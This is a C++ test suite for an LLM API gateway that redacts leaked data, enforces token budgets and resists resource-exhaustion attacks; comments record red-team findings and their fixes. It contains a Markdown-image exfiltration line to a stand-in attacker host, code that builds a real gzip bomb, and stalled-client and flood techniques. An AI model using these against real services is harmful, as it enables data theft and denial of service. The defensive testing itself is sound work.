    EXPECT_EQ(text.rfind("write to [REDACTED_", 0), 0u) << text;
    EXPECT_NE(text.find(" now"), std::string::npos) << text;
    if (!stream) {  // reasoning_content and tool call arguments too
      EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << r->body;
      EXPECT_NE(r->body.find("[REDACTED_EMAIL]"), std::string::npos) << r->body;
    }
  }
}

// The streamed answer is scanned incrementally (policy::StreamScanner, #20), not by re-scanning
// what accumulated: a Markdown image leaking an address in its URL, a token and a resident ID,
// each cut between two SSE chunks at every byte and sent one byte per chunk, are redacted or
// block the answer exactly as when sent whole.
TEST_F(GatewayTest, StreamedAnswerCutAtEveryByteIsScannedLikeTheWholeAnswer) {
  const std::vector<std::string> expected = {
      kProse300 + "see ![chart](https://attacker.example/log?u=[REDACTED_EMAIL]&x=1) ok",
      kProse300 + "use [REDACTED_SECRET] then",
      "",  // blocked
  };
  for (std::size_t k = 0; k < kCutAnswers.size(); ++k) {
    std::vector<std::string> variants = {"bytes" + std::to_string(k)};
    // Every cut from the start of the sentence with the data to the end of the answer.
    for (std::size_t cut = kProse300.size(); cut < kCutAnswers[k].size(); ++cut)
      variants.push_back("cut" + std::to_string(k) + ":" + std::to_string(cut));
    for (const std::string& variant : variants) {
      json body = ChatBody("echo", "hi", true);
      body["x_double"] = variant;
      auto r = Chat(body, admin_);
      ASSERT_TRUE(r) << variant;
      ASSERT_EQ(r->status, 200) << variant;
      if (expected[k].empty()) {
        EXPECT_EQ(r->body.find("19491231"), std::string::npos) << variant << ": " << r->body;
        EXPECT_NE(r->body.find("policy_violation"), std::string::npos)
            << variant << ": " << r->body;
        continue;
      }
      EXPECT_EQ(StreamText(r->body), expected[k]) << variant;
    }
  }
}

// A block class in the answer (reasoning included) ends it with an error the client sees.
TEST_F(GatewayTest, BlockedClassInModelOutputEndsTheAnswerWithAnError) {
  auto r = Chat(ChatBody("leakblock", "hi"), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 403);
  EXPECT_EQ(ErrorCode(r), "policy_violation");
  EXPECT_EQ(r->body.find("11010519491231002X"), std::string::npos);
  r = Chat(ChatBody("leakblock", "hi", true), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->body.find("11010519491231002X"), std::string::npos) << r->body;
  EXPECT_NE(r->body.find("policy_violation"), std::string::npos) << r->body;
  EXPECT_NE(r->body.find("data: [DONE]"), std::string::npos);
}

// Attack (U1): only message/delta content and the strings of a message or delta were scanned;
// choice-level logprobs, unknown and top-level fields (system_fingerprint), roles, object keys,
// numbers, non-string content and everything but `text` on /v1/completions reached the client
// unredacted, streamed and not. Strings are now redacted wherever they are; a key or number with
// a finding, or content that is not a string, ends the answer (502 / an error event).
// (U2: the upstream's error message is scanned too.)
TEST_F(GatewayTest, DataOutsideResponseContentIsRedactedOrEndsTheAnswer) {
  for (bool chat : {true, false}) {
    for (bool stream : {false, true}) {
      std::string path = chat ? "/v1/chat/completions" : "/v1/completions";
      auto send = [&](const std::string& variant) {
        json body = chat ? ChatBody("echo", "hi", stream)
                         : json{{"model", "echo"}, {"prompt", "hi"}, {"stream", stream}};
        body["x_double"] = variant;
        return Client().Post(path, {{"Authorization", "Bearer " + admin_}}, body.dump(),
                             "application/json");
      };
      std::string where = (chat ? "chat" : "completions") + std::string(stream ? " streamed" : "");
      auto r = send("str");
      ASSERT_TRUE(r) << where;
      EXPECT_EQ(r->status, 200) << where << ": " << r->body;
      EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << where << ": " << r->body;
      EXPECT_NE(r->body.find("[REDACTED_EMAIL]"), std::string::npos) << where << ": " << r->body;
      EXPECT_EQ(r->body.find("upstream_error"), std::string::npos) << where << ": " << r->body;
      r = send("realistic");
      ASSERT_TRUE(r) << where;
      EXPECT_EQ(r->status, 200) << where << ": " << r->body;
      for (const char* kept :
           {"chatcmpl-9zX8ab3LmQpR7sTuVwXyZ0123456", "1765076000", "fp_44709d6fcb"})
        EXPECT_NE(r->body.find(kept), std::string::npos)
            << where << " lost " << kept << ": " << r->body;
      // Log probabilities are withheld while response rules apply (they would repeat redacted
      // content token by token; see LogprobsCannotRebuildRedactedContent).
      EXPECT_EQ(r->body.find("-0.000123456789"), std::string::npos) << where << ": " << r->body;
      EXPECT_EQ(r->body.find("REDACTED"), std::string::npos) << where << ": " << r->body;
      for (std::string variant : {"key", "num", "content"}) {
        r = send(variant);
        ASSERT_TRUE(r) << where << " " << variant;
        EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << where << ": " << r->body;
        EXPECT_EQ(r->body.find("110105194912311006"), std::string::npos) << r->body;
        EXPECT_EQ(r->body.find("4111111111111111"), std::string::npos) << r->body;
        EXPECT_NE(r->body.find("upstream_error"), std::string::npos)
            << where << " " << variant << ": " << r->body;
        if (!stream) {
          EXPECT_EQ(r->status, 502) << where << " " << variant;
        }
      }
    }
  }
  // U2: an upstream error message is relayed only when it holds no finding.
  json body = ChatBody("fail", "hi");
  body["x_double"] = "errleak";
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 502);
  EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << r->body;
  r = Chat(ChatBody("fail", "hi"), admin_);
  ASSERT_TRUE(r);
  EXPECT_NE(r->body.find("boom"), std::string::npos) << r->body;
}

// Attack (U3): tool call arguments and reasoning_content were scanned chunk by chunk, so an
// address split across stream chunks passed. They now get the same hold-back as content, per
// choice and tool call index.
TEST_F(GatewayTest, ToolArgumentsAndReasoningSplitAcrossChunksAreRedacted) {
  json body = ChatBody("echo", "hi", true);
  body["x_double"] = "splitargs";
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200);
  EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << r->body;
  std::string args;
  std::size_t pos = 0;
  while ((pos = r->body.find("data: {", pos)) != std::string::npos) {
    std::size_t end = r->body.find("\n\n", pos);
    json j = json::parse(r->body.substr(pos + 6, end - pos - 6));
    pos = end;
    for (const auto& c : j.value("choices", json::array()))
      if (c.contains("delta") && c["delta"].contains("tool_calls"))
        for (const auto& tc : c["delta"]["tool_calls"])
          if (tc.contains("function") && tc["function"].contains("arguments"))
            args += tc["function"]["arguments"].get<std::string>();
  }
  EXPECT_EQ(args, R"({"to":"[REDACTED_EMAIL]"})") << r->body;
  // Reasoning is logged by the test policy: the audit record holds it redacted.
  std::string request_id = r->get_header_value("X-Request-Id");
  ASSERT_FALSE(request_id.empty());
  std::string reasoning;
  sqlite3* db = nullptr;
  ASSERT_EQ(sqlite3_open(audit_db_.c_str(), &db), SQLITE_OK);
  sqlite3_stmt* q = nullptr;
  ASSERT_EQ(sqlite3_prepare_v2(db, "SELECT data FROM records", -1, &q, nullptr), SQLITE_OK);
  while (sqlite3_step(q) == SQLITE_ROW) {
    json rec =
        json::parse(reinterpret_cast<const char*>(sqlite3_column_text(q, 0)), nullptr, false);
    if (rec.is_object() && rec.value("request_id", "") == request_id)
      reasoning = rec.value("reasoning_text", "");
  }
  sqlite3_finalize(q);
  sqlite3_close(db);
  EXPECT_EQ(reasoning, "ask [REDACTED_EMAIL]");
}

// refusal, a provider's `reasoning` field and legacy function_call.arguments are held back across
// chunks like content: an address split between two chunks is still redacted.
TEST_F(GatewayTest, RefusalReasoningAndFunctionCallSplitAcrossChunksAreRedacted) {
  json body = ChatBody("echo", "hi", true);
  body["x_double"] = "splitplain";
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200);
  EXPECT_EQ(r->body.find("rp.example"), std::string::npos) << r->body;
  std::string refusal, args;
  std::size_t pos = 0;
  while ((pos = r->body.find("data: {", pos)) != std::string::npos) {
    std::size_t end = r->body.find("\n\n", pos);
    json j = json::parse(r->body.substr(pos + 6, end - pos - 6));
    pos = end;
    for (const auto& c : j.value("choices", json::array())) {
      const json& d = c.value("delta", json::object());
      if (d.contains("refusal") && d["refusal"].is_string())
        refusal += d["refusal"].get<std::string>();
      if (d.contains("function_call") && d["function_call"].contains("arguments"))
        args += d["function_call"]["arguments"].get<std::string>();
    }
  }
  EXPECT_EQ(refusal, "write to [REDACTED_EMAIL] please") << r->body;
  EXPECT_EQ(args, R"({"to":"[REDACTED_EMAIL]"})") << r->body;
}

// Found by re-attacking the gateway: text sent for a choice after its finish_reason started a
// fresh hold-back, so half a card before and half after reached the client whole.
TEST_F(GatewayTest, ToolArgumentsAfterFinishAreDropped) {
  json body = ChatBody("echo", "hi", true);
  body["x_double"] = "argsafterfinish";
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->body.find("1283 0366"), std::string::npos) << r->body;
  EXPECT_EQ(r->body.find("corp.example"), std::string::npos) << r->body;
}

// Log probabilities repeat the answer token by token: with response rules they are withheld.
TEST_F(GatewayTest, LogprobsCannotRebuildRedactedContent) {
  json body = ChatBody("echo", "hi");
  body["x_double"] = "logprobs";
  body["logprobs"] = true;
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  json j = json::parse(r->body);
  EXPECT_TRUE(j["choices"][0]["logprobs"].is_null()) << r->body;
  EXPECT_EQ(r->body.find("corp"), std::string::npos) << r->body;
}

// Each held-back field holds at most 64 KiB; the number of such fields is bounded too.
TEST_F(GatewayTest, HeldBackFieldsAreBoundedInNumber) {
  json body = ChatBody("echo", "hi", true);
  body["x_double"] = "manyheld";
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_NE(r->body.find("held back at once"), std::string::npos) << r->body.substr(0, 2000);
  EXPECT_EQ(r->body.find("BEGIN PRIVATE KEY"), std::string::npos);
}

TEST_F(GatewayTest, RateLimit) {
  int ok = 0, limited = 0;
  for (int i = 0; i < 4; ++i) {
    auto r = Chat(ChatBody("echo", "x"), rpm_);
    if (r->status == 200) ok++;
    if (r->status == 429) {
      limited++;
      EXPECT_EQ(ErrorCode(r), "rate_limit_exceeded");
    }
  }
  EXPECT_EQ(ok, 2);
  EXPECT_EQ(limited, 2);
}

// Concurrent requests against a 3000-token budget: the tokens the upstream reports for admitted
// requests never exceed the budget, and some requests are refused with 429.
TEST_F(GatewayTest, BudgetHoldsUnderConcurrency) {
  std::atomic<int> ok{0}, refused{0};
  std::atomic<std::int64_t> spent{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 12; ++t)
    threads.emplace_back([&] {
      for (int i = 0; i < 4; ++i) {
        json body = ChatBody("echo", "count to three");
        body["max_tokens"] = 150;
        auto r = Chat(body, budget_);
        if (!r) continue;
        if (r->status == 200) {
          ok++;
          spent += json::parse(r->body)["usage"]["total_tokens"].get<std::int64_t>();
        } else if (r->status == 429) {
          refused++;
          EXPECT_EQ(ErrorCode(r), "insufficient_quota");
        }
      }
    });
  for (auto& t : threads) t.join();
  EXPECT_GT(ok.load(), 0);
  EXPECT_GT(refused.load(), 0);
  EXPECT_LE(spent.load(), 3000);
  auto listed = RunAirlock({"keys", "list", "--db", keys_db_});
  EXPECT_EQ(listed.first, 0);
}

// Attack: the reservation used max_completion_tokens while the upstream or local engine honoured
// max_tokens ({"max_tokens": 400, "max_completion_tokens": 1} spent 4,030 tokens of a 270
// budget), and `n` was forwarded but reserved once. Concurrent requests mixing the fields never
// spend more than the budget (the upstream double produces up to its limit, times n).
TEST_F(GatewayTest, BudgetRaceWithMixedLimitFieldsNeverOverspends) {
  std::string key =
      Trim(RunAirlock({"keys", "create", "--db", keys_db_, "--budget", "3000"}).second);
  ASSERT_EQ(key.rfind("ak_", 0), 0u);
  const std::vector<json> limits = {
      {{"max_tokens", 400}, {"max_completion_tokens", 1}},
      {{"max_tokens", 1}, {"max_completion_tokens", 300}},
      {{"max_completion_tokens", 200}, {"n", 3}},
      {{"max_tokens", 90}, {"n", 5}},
      {{"max_tokens", nullptr}, {"max_completion_tokens", nullptr}},  // default_max_tokens
  };
  std::atomic<int> ok{0}, refused{0};
  std::atomic<std::int64_t> spent{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 10; ++t)
    threads.emplace_back([&, t] {
      for (int i = 0; i < 4; ++i) {
        json body = ChatBody("echo", "count to three", (t + i) % 2 == 1);
        for (const auto& [k, v] : limits[(t + i) % limits.size()].items()) body[k] = v;
        auto r = Chat(body, key);
        if (!r) continue;
        if (r->status == 200) {
          ok++;
          json usage;
          if (body["stream"].get<bool>())
            StreamText(r->body, &usage);
          else
            usage = json::parse(r->body)["usage"];
          spent += usage["total_tokens"].get<std::int64_t>();
        } else if (r->status == 429) {
          refused++;
        }
      }
    });
  for (auto& t : threads) t.join();
  EXPECT_GT(ok.load(), 0);
  EXPECT_GT(refused.load(), 0);
  EXPECT_LE(spent.load(), 3000);
}

// The limit the gateway reserved is the one the upstream receives.
TEST_F(GatewayTest, UpstreamLimitIsRewrittenToTheReservedCap) {
  json body = ChatBody("echo", "x");
  body["max_tokens"] = 400;
  body["max_completion_tokens"] = 1;
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  ASSERT_EQ(r->status, 200) << r->body;
  EXPECT_EQ(json::parse(r->body)["usage"]["completion_tokens"], 400);
  r = Chat(ChatBody("echo", "x"), admin_);  // neither: default_max_tokens (100)
  ASSERT_TRUE(r);
  EXPECT_EQ(json::parse(r->body)["usage"]["completion_tokens"], 100);
}

// Attack (B1): best_of was ignored by the reservation and forwarded unchanged (126 tokens
// reserved, 2,000 billed upstream); and an upstream reporting more than 2^40 completion tokens,
// or none, was charged 0. The reservation covers max(n, best_of) candidates, and implausible or
// missing counts are charged the reservation or the counted output instead of 0.
TEST_F(GatewayTest, BestOfIsReservedAndHostileUsageIsNotChargedZero) {
  auto used_by = [&](const std::string& name) -> std::int64_t {
    auto store = airlock::server::KeyStore::Open(keys_db_);
    if (!store.ok()) return -1;
    auto keys = (*store)->List();
    if (!keys.ok()) return -1;
    for (const auto& k : *keys)
      if (k.name == name) return k.used_tokens;
    return -1;
  };
  std::string key =
      Trim(RunAirlock({"keys", "create", "--db", keys_db_, "--name", "bestof", "--budget", "5000"})
               .second);
  ASSERT_EQ(key.rfind("ak_", 0), 0u);
  auto post = [&](const json& body) {
    return Client().Post("/v1/completions", {{"Authorization", "Bearer " + key}}, body.dump(),
                         "application/json");
  };
  // 60 candidates of 100 tokens: 6,000 > 5,000, refused before the upstream sees it.
  std::size_t before = upstream_->raw().size();
  auto r = post({{"model", "echo"}, {"prompt", "hi"}, {"max_tokens", 100}, {"best_of", 60}});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 429) << r->body;
  EXPECT_EQ(ErrorCode(r), "insufficient_quota");
  EXPECT_EQ(upstream_->raw().size(), before);
  // 3 candidates fit and are forwarded as asked; the spend stays within the budget.
  r = post({{"model", "echo"}, {"prompt", "hi"}, {"max_tokens", 100}, {"best_of", 3}});
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
  EXPECT_EQ(json::parse(upstream_->raw().back())["best_of"], 3);
  EXPECT_EQ(used_by("bestof"), 10 + 300);
  // Hostile usage, streamed and not: a count past 2^40 is charged the whole reservation (100
  // tokens here), a missing one at least the counted output; never 0.
  for (bool stream : {false, true}) {
    for (std::string variant : {"hugeusage", "nousage"}) {
      std::int64_t used = used_by("bestof");
      json body = {{"model", "echo"},
                   {"prompt", "hi"},
                   {"max_tokens", 100},
                   {"stream", stream},
                   {"x_double", variant}};
      r = post(body);
      ASSERT_TRUE(r);
      EXPECT_EQ(r->status, 200) << r->body;
      std::int64_t charged = used_by("bestof") - used;
      if (variant == "hugeusage") {
        EXPECT_EQ(charged, 10 + 100) << variant << (stream ? " streamed" : "");
      } else {
        EXPECT_GT(charged, 10) << variant << (stream ? " streamed" : "");
      }
    }
  }
}

// Attack (F5, red team): an upstream reporting usage 0/0 with 4,000-character answers was
// believed, so a 3,000-token budget never ran down (30 requests, all 200; streamed, 1 token
// each). The charge is at least the gateway's own estimate (answer bytes / 4), whatever the
// upstream claims; the audit records the claim next to the charge.
TEST_F(GatewayTest, UpstreamReportingZeroUsageStillExhaustsTheBudget) {
  for (bool stream : {false, true}) {
    const std::string name = stream ? "liar-streamed" : "liar";
    std::string key =
        Trim(RunAirlock({"keys", "create", "--db", keys_db_, "--name", name, "--budget", "3000"})
                 .second);
    ASSERT_EQ(key.rfind("ak_", 0), 0u);
    int ok = 0, refused = 0;
    for (int i = 0; i < 10 && refused == 0; ++i) {
      json body = ChatBody("echo", "lorem ipsum dolor sit amet", stream);
      body["max_tokens"] = 5;
      body["x_double"] = "lieusage";
      auto r = Chat(body, key);
      ASSERT_TRUE(r);
      if (r->status == 200) ++ok;
      if (r->status == 429) ++refused;
    }
    // 4,000 bytes are at least 1,000 tokens each: the fourth request finds the budget spent.
    EXPECT_EQ(refused, 1) << name;
    EXPECT_LE(ok, 3) << name;
    EXPECT_GE(ok, 2) << name;
  }
  auto shown = RunAirlock({"audit", "show", "--log", audit_db_, "--json", "--limit", "1000"});
  EXPECT_NE(shown.second.find("usage: upstream claimed prompt 0, completion 0; charged prompt "),
            std::string::npos);
  EXPECT_NE(shown.second.find(", completion 100"), std::string::npos);  // 4,000 bytes and more
}

// Attack (D2): the stream channel between the upstream reader and the client writer had no
// bound: a client that stops reading in front of a fast upstream made the gateway buffer the
// whole answer (150 MB RSS). The channel holds at most 8 MiB; past it the upstream is not read,
// so a 128 MiB flood is never taken whole, and the stalled client is cut off (499).
TEST_F(GatewayTest, StalledStreamClientDoesNotMakeTheGatewayBufferTheUpstream) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  int small = 4096;  // keep the client's own buffer small: it reads nothing
  setsockopt(s, SOL_SOCKET, SO_RCVBUF, &small, sizeof small);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(serve_->port()));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  json body = ChatBody("echo", "hi", true);
  body["x_double"] = "flood";
  std::string payload = body.dump();
  std::string request =
      "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + admin_ +
      "\r\nContent-Type: application/json\r\nContent-Length: " + std::to_string(payload.size()) +
      "\r\n\r\n" + payload;
  ASSERT_EQ(send(s, request.data(), request.size(), MSG_NOSIGNAL),
            static_cast<ssize_t>(request.size()));
  // Bounded wait for the flood to end one way or the other (the gateway's write timeout is 2 s).
  for (int i = 0; i < 600 && upstream_->flood_state_ < 2; ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(100));
  EXPECT_EQ(upstream_->flood_state_.load(), 3) << "the gateway took the whole flood";
  close(s);
  auto r = Chat(ChatBody("echo", "still serving", true), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);
  EXPECT_EQ(StreamText(r->body), "echo: still serving");
}

// Attack (D3): a match that stays open (a private key header followed by base64 without an end)
// held the whole rest of a stream back and rescanned all of it on every chunk (quadratic: 4.7 s
// for 1 MB in 4 KB chunks). The hold-back is bounded at 64 KiB: past it the stream ends with an
// error event, and nothing of the held text is sent. (The rescans are also spaced geometrically,
// so the work is linear; this test checks the bound, not the time.)
TEST_F(GatewayTest, OpenEndedMatchInAStreamIsBoundedAndNeverReleased) {
  json body = ChatBody("echo", "hi", true);
  body["x_double"] = "pem";
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);  // the stream had started
  EXPECT_EQ(r->body.find("QQQQ"), std::string::npos) << r->body.substr(0, 300);
  EXPECT_EQ(r->body.find("AAAA"), std::string::npos) << r->body.substr(0, 300);
  EXPECT_NE(r->body.find("upstream_error"), std::string::npos) << r->body.substr(0, 300);
  EXPECT_NE(r->body.find("data: [DONE]"), std::string::npos);
  // A key that ends within the bound is redacted as before, and the answer goes on.
  body["x_double"] = "pemok";
  r = Chat(body, admin_);
  ASSERT_TRUE(r);
  std::string text = StreamText(r->body);
  EXPECT_EQ(text.find("QQQQ"), std::string::npos) << text.substr(0, 300);
  EXPECT_NE(text.find("[REDACTED_SECRET]"), std::string::npos) << text.substr(0, 300);
  EXPECT_NE(text.find(" done"), std::string::npos) << text.substr(0, 300);
  EXPECT_EQ(r->body.find("upstream_error"), std::string::npos);
}

// Attack (D4): an upstream sending `: ping` comments every second kept a stream open past
// timeout_s, also after the client had gone (nothing was written to notice it): the reservation
// stayed held and the request was audited as 200. A stream now has an overall deadline
// ([server] request_timeout_s: 8 s here) ending it with a 504 event, and a client that goes away
// is noticed through keep-alive comments and settled as 499. A non-streamed answer trickled byte
// by byte is cut off at the same deadline (504).
TEST_F(GatewayTest, PingingUpstreamCannotHoldAStreamOpen) {
  auto wait_cut = [&] {
    for (int i = 0; i < 400 && upstream_->ping_state_ == 1; ++i)
      std::this_thread::sleep_for(std::chrono::milliseconds(100));
    return upstream_->ping_state_.load();
  };
  json body = ChatBody("echo", "hi", true);
  body["x_double"] = "ping";
  // A client that stays: the stream ends at the deadline with an error event.
  auto r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);
  EXPECT_NE(r->body.find("stream_timeout"), std::string::npos) << r->body;
  EXPECT_NE(r->body.find("data: [DONE]"), std::string::npos) << r->body;
  EXPECT_EQ(wait_cut(), 3) << "the upstream stream was not cancelled";
  // A client that goes away once the stream has started: settled as 499.
  upstream_->ping_state_ = 0;
  int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(serve_->port()));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  std::string payload = body.dump();
  std::string request =
      "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + admin_ +
      "\r\nContent-Type: application/json\r\nContent-Length: " + std::to_string(payload.size()) +
      "\r\n\r\n" + payload;
  ASSERT_EQ(send(s, request.data(), request.size(), MSG_NOSIGNAL),
            static_cast<ssize_t>(request.size()));
  timeval tv{20, 0};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  std::string reply;
  char buf[4096];
  // The answer's headers (the stream has started; "hello" itself is held back by the scan).
  while (reply.find("\r\n\r\n") == std::string::npos && reply.size() < 65536) {
    ssize_t n = recv(s, buf, sizeof buf, 0);
    if (n <= 0) break;
    reply.append(buf, static_cast<std::size_t>(n));
  }
  close(s);
  std::size_t id_at = reply.find("X-Request-Id: ");
  ASSERT_NE(id_at, std::string::npos) << reply;
  std::string request_id = reply.substr(id_at + 14, reply.find("\r\n", id_at) - id_at - 14);
  EXPECT_EQ(wait_cut(), 3) << "the upstream stream was not cancelled";
  int status = 0;
  for (int i = 0; i < 200 && status == 0; ++i) {
    sqlite3* db = nullptr;
    if (sqlite3_open(audit_db_.c_str(), &db) == SQLITE_OK) {
      sqlite3_stmt* q = nullptr;
      if (sqlite3_prepare_v2(db, "SELECT data FROM records", -1, &q, nullptr) == SQLITE_OK) {
        while (sqlite3_step(q) == SQLITE_ROW) {
          json rec =
              json::parse(reinterpret_cast<const char*>(sqlite3_column_text(q, 0)), nullptr, false);
          if (rec.is_object() && rec.value("request_id", "") == request_id)
            status = rec.value("status", 0);
        }
        sqlite3_finalize(q);
      }
      sqlite3_close(db);
    }
    if (status == 0) std::this_thread::sleep_for(std::chrono::milliseconds(100));
  }
  EXPECT_EQ(status, 499) << request_id;
  // Not streamed: an upstream trickling its answer is cut off at the same deadline.
  upstream_->ping_state_ = 0;
  body = ChatBody("echo", "hi");
  body["x_double"] = "trickle";
  r = Chat(body, admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 504) << r->body;
  EXPECT_EQ(ErrorCode(r), "upstream_timeout");
  EXPECT_EQ(wait_cut(), 3) << "the upstream response was not abandoned";
}

TEST_F(GatewayTest, SlowClientDoesNotStallOthers) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(serve_->port()));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  std::string partial =
      "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Length: 500\r\n\r\n{";
  ASSERT_EQ(send(s, partial.data(), partial.size(), 0), static_cast<ssize_t>(partial.size()));
  // Meanwhile others are served.
  auto r = Chat(ChatBody("echo", "still here"), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200);
  // The stalled connection is closed by the server's read timeout (bounded wait here).
  timeval tv{10, 0};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  char buf[512];
  ssize_t n;
  std::string reply;
  while ((n = recv(s, buf, sizeof buf, 0)) > 0) reply.append(buf, static_cast<std::size_t>(n));
  EXPECT_EQ(n, 0) << "connection not closed by the server";
  close(s);
}

// Sends raw bytes on a new connection and returns what the server answers first ("" if none).
std::string RawExchange(int port, const std::string& bytes) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_port = htons(static_cast<uint16_t>(port));
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(s, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0) {
    close(s);
    return "";
  }
  timeval tv{10, 0};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  send(s, bytes.data(), bytes.size(), MSG_NOSIGNAL);
  // Reads one response: its headers and Content-Length bytes of body (bounded).
  std::string reply;
  char buf[4096];
  while (reply.size() < 65536) {
    std::size_t end = reply.find("\r\n\r\n");
    if (end != std::string::npos) {
      std::size_t cl = reply.find("Content-Length: ");
      std::size_t want = cl < end ? std::strtoul(reply.c_str() + cl + 16, nullptr, 10) : 0;
      if (reply.size() >= end + 4 + want) break;
    }
    ssize_t n = recv(s, buf, sizeof buf, 0);
    if (n <= 0) break;
    reply.append(buf, static_cast<std::size_t>(n));
  }
  close(s);
  return reply;
}

// Attack (D1): httplib decompresses a gzip request body itself, with the payload limit applied to
// the compressed length, and reads a chunked body whole, all before authentication: a 200 KB
// gzip bomb (200 MB expanded) or a 20 MB chunked body made the gateway buffer it. Both are
// refused from the headers alone, before a byte of the body is read: the answer comes while the
// body is still unsent (a server that read the body would wait for it).
TEST_F(GatewayTest, GzipBombAndChunkedBodyAreRefusedBeforeTheBodyIsRead) {
  // A real gzip bomb: 16 MiB of JSON string content compressed to a few KB.
  std::string expanded = R"({"model":"echo","messages":[{"role":"user","content":")" +
                         std::string(16u << 20, 'a') + R"("}]})";
  z_stream z{};
  ASSERT_EQ(deflateInit2(&z, 9, Z_DEFLATED, 31, 8, Z_DEFAULT_STRATEGY), Z_OK);
  std::string bomb(deflateBound(&z, expanded.size()), '\0');
  z.next_in = reinterpret_cast<Bytef*>(expanded.data());
  z.avail_in = static_cast<uInt>(expanded.size());
  z.next_out = reinterpret_cast<Bytef*>(bomb.data());
  z.avail_out = static_cast<uInt>(bomb.size());
  ASSERT_EQ(deflate(&z, Z_FINISH), Z_STREAM_END);
  bomb.resize(z.total_out);
  deflateEnd(&z);
  ASSERT_LT(bomb.size(), 262144u);  // under max_body_bytes as sent
  const std::string head =
      "POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nContent-Type: "
      "application/json\r\n";
  for (const std::string& key : {std::string(), admin_}) {
    std::string auth = key.empty() ? "" : "Authorization: Bearer " + key + "\r\n";
    // Headers only: the answer must not wait for the body.
    std::string reply = RawExchange(
        serve_->port(), head + auth + "Content-Encoding: gzip\r\n" +
                            "Content-Length: " + std::to_string(bomb.size()) + "\r\n\r\n");
    EXPECT_EQ(reply.rfind("HTTP/1.1 415", 0), 0u) << reply;
    EXPECT_NE(reply.find("unsupported_content_encoding"), std::string::npos) << reply;
    // With the whole bomb sent as well.
    reply = RawExchange(serve_->port(), head + auth + "Content-Encoding: gzip\r\nContent-Length: " +
                                            std::to_string(bomb.size()) + "\r\n\r\n" + bomb);
    EXPECT_EQ(reply.rfind("HTTP/1.1 415", 0), 0u) << reply.substr(0, 200);
    // Chunked: refused after the first of 20 MB worth of chunks.
    std::string chunk(65536, 'a');
    char size_line[32];
    std::snprintf(size_line, sizeof size_line, "%zx\r\n", chunk.size());
    reply = RawExchange(serve_->port(), head + auth + "Transfer-Encoding: chunked\r\n\r\n" +
                                            size_line + chunk + "\r\n");
    EXPECT_EQ(reply.rfind("HTTP/1.1 411", 0), 0u) << reply.substr(0, 200);
    EXPECT_NE(reply.find("length_required"), std::string::npos) << reply.substr(0, 400);
    // A POST without any length (read until the connection closes) likewise.
    reply = RawExchange(serve_->port(), head + auth + "\r\n" + std::string(65536, 'a'));
    EXPECT_EQ(reply.rfind("HTTP/1.1 411", 0), 0u) << reply.substr(0, 200);
  }
  // The whole 20 MB chunked body from a client that does not wait: the gateway keeps serving.
  {
    auto c = Client();
    std::string big(20u << 20, 'a');
    std::size_t sent = 0;
    auto r = c.Post(
        "/v1/chat/completions", {{"Authorization", "Bearer " + admin_}},
        [&](std::size_t, httplib::DataSink& sink) {
          std::size_t n = std::min<std::size_t>(65536, big.size() - sent);
          if (n == 0) {
            sink.done();
            return true;
          }
          sent += n;
          return sink.write(big.data() + sent - n, n);
        },
        "application/json");
    if (r) {
      EXPECT_EQ(r->status, 411);  // or the connection was closed mid-upload
    }
  }
  auto r = Chat(ChatBody("echo", "still serving"), admin_);
  ASSERT_TRUE(r);
  EXPECT_EQ(r->status, 200) << r->body;
